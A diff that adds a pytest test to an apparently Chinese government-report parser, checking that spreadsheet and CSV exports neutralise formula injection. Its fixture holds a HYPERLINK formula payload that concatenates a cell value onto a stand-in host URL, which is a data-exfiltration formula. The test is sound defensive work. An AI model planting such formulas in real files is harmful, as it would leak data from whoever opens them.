@@ -188,6 +188,41 @@ def test_csv_takes_no_text_for_a_formula(tmp_path: Path) -> None:
     assert [cell for cell in cells if cell[:1] in tuple("=+-@＝＋－＠") and cell not in ("-3", "-", "")] == []
 
 
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
+def test_no_spreadsheet_calculates_what_a_page_says(sign: str, tmp_path: Path) -> None:
+    """One page whose title, heading, text and table begin like formulas, through every output a spreadsheet opens."""
+    evil = f'{sign}HYPERLINK("https://a.test?"&本地数)'
+    rows = [("统计指标", "单位", "统计数"), ("（二）申请办结数", "件", "12"), (evil, "件", "5")]
+    cells = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
+    prose = f"<p>一、总体情况</p><p>{evil}</p><p>{sign}1公开信息3条。</p><p>二、数据</p>"
+    page = f"<html><head><title>{evil}</title></head><body><h1>{evil}</h1>{prose}<table>{cells}</table></body></html>"
+    (tmp_path / "a.html").write_text(page, encoding="utf-8")
+    report = govreport.parse(page)
+    assert report.title == evil
+    assert report.statistics is not None
+    assert [row.label for row in report.statistics.extra] == [evil]
+    made(tmp_path / "a.html", tmp_path / "a.xlsx")
+    report.statistics.to_xlsx(tmp_path / "statistics.xlsx")
+    for name, least in (("a.xlsx", 2), ("statistics.xlsx", 1)):
+        book = openpyxl.load_workbook(tmp_path / name)
+        found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        suspect = [cell for cell in found if isinstance(cell.value, str) and evil in cell.value]
+        assert len(suspect) >= least
+        assert {cell.data_type for cell in suspect} == {"s"}
+        assert [cell.hyperlink for cell in found if cell.hyperlink is not None] == []
+        # the form's workbook adds up the cells of the form, and nothing else is calculated
+        ours = [cell.value for cell in found if cell.data_type == "f"]
+        assert all(value.startswith("=SUM(") for value in ours)
+        assert not (ours and name == "a.xlsx")
+    made(tmp_path / "a.html", tmp_path / "a.csv")
+    texts = []
+    for path in csv_paths(tmp_path / "a.csv").values():
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            texts += [cell for row in csv.reader(file) for cell in row]
+    assert "'" + evil in texts
+    assert [text for text in texts if text.startswith(sign) and text != sign] == []
+
+
 def test_excel_takes_no_text_for_a_formula(tmp_path: Path) -> None:
     (tmp_path / "a.html").write_text(
         '<title>=HYPERLINK("http://a.cn")</title><h1>=1+1</h1><p>甲\x0b乙</p>' + "长" * 40_000
